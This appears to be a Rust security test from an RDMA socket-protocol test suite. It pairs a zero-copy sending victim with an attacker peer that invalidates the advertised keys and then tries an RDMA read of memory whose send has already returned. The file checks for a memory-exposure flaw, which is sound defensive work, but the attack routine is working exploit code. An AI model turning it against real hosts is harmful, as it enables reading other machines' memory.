// SPDX-License-Identifier: GPL-2.0
//! An attack between two machines. The reports of the peer make the keys of a send invalid, but its
//! adapter acknowledges nothing. So the sender's adapter repeats all requests, including the
//! registrations of the keys.

use crate::cm::Channel;
use crate::fail::{expect, Fail, Result, Step};
use crate::peer::{wire, Peer};
use crate::session::{hello, resolved, POSTED};
use crate::sock::Sock;
use proto_host::proto::bsdh::Mid;
use proto_host::proto::hello::{Features, Hello, HelloAck, HELLO_ACK_ROOM};
use proto_host::proto::message::Body;
use std::net::SocketAddrV4;
use std::thread::sleep;
use std::time::{Duration, Instant};

/// The number of bytes of an advert.
const BYTES: usize = 900_000;
/// The content of the victim's memory after the victim has it back.
const SECRET: u8 = 0x5e;
/// A time after the sender's first time-out and before the second.
const PATIENCE: Duration = Duration::from_millis(3300);

/// A program that sends without a copy, and then uses the memory for other data.
pub(crate) fn victim(addr: SocketAddrV4, limit: Duration) -> Result<()> {
    let listener = Sock::listen(addr, 1, limit)?;
    println!("ready");
    let sock = listener.accept(limit)?;
    sock.set_zcopy_threshold(16_384)?;
    // The registration must not be the oldest request.
    sock.send(&[1; 100])?;
    let mut memory = vec![1; BYTES];
    let sent = sock.send_some(&memory).step("send")?;
    memory.fill(SECRET);
    println!("sent {sent}");
    sleep(Duration::from_secs(8));
    std::hint::black_box(&memory);
    Ok(())
}

/// Fails if memory can be read after its send has returned.
pub(crate) fn attack(addr: SocketAddrV4, limit: Duration) -> Result<()> {
    let _ = Channel::new()?;
    let mut peer = Peer::new(resolved(addr, limit)?, usize::from(POSTED), limit)?;
    peer.credits.announce();
    let hello = Hello {
        features: Features::SOURCE
            .union(Features::ORDERED)
            .union(Features::REMOTE_INV),
        max_adverts: 4,
        ..hello(POSTED)
    };
    let number = peer.queue()?.number();
    peer.id.connect(&hello.encode(), number)?;
    let event = peer.id.accepted(limit)?;
    let mut room = [0; HELLO_ACK_ROOM];
    for (to, from) in room.iter_mut().zip(&event.private) {
        *to = *from;
    }
    let ack = HelloAck::decode(&room).map_err(|why| Fail::new(why.name()))?;
    peer.credits.set_peer_limit(ack.bufs);
    peer.complete()?;
    // This tells the victim that the connection is complete, if the CM has not done so.
    peer.send(Body::Data, &[1])?;

    // If its adapter repeats registrations, the sender delays a registration until all earlier
    // requests are acknowledged, which never happens here.
    let advertised = peer.until("an advert", |p| {
        p.is_over() || p.heard.iter().any(|b| b.mid() == Mid::SrcAvail)
    });
    if advertised.is_err() {
        println!("no advert");
        return Ok(());
    }
    let start = Instant::now();
    let lent: Vec<_> = peer
        .heard
        .iter()
        .filter_map(|body| match *body {
            Body::SrcAvail { len, rkey, addr } => Some((len, rkey, addr)),
            _ => None,
        })
        .collect();
    for &(bytes, rkey, _) in &lent {
        let body = Body::RdmaRdCompl { bytes };
        let header = peer.next(body, 0)?;
        let bytes = wire(&header, body, &[]);
        peer.queue()?.send_and_invalidate(&bytes, rkey)?;
    }
    peer.finish_sends()?;
    println!("reported {lent:x?} after {:?}", start.elapsed());
    while start.elapsed() < PATIENCE {
        peer.pump()?;
        sleep(Duration::from_millis(5));
    }
    let Some(&(_, rkey, addr)) = lent.first() else {
        return Err(Fail::new("no advert"));
    };
    let before = peer.succeeded;
    let at = peer.queue()?.rdma_at(true, addr, rkey, 64)?;
    peer.finish_sends()?;
    let done = peer.succeeded - before;
    let got = peer.queue()?.read_back(at, 64);
    println!("Read: {done} done, {:?}, bytes {got:x?}", peer.broken);
    expect(done == 0, || {
        format!("memory was read whose send() had returned: {got:x?}")
    })
}
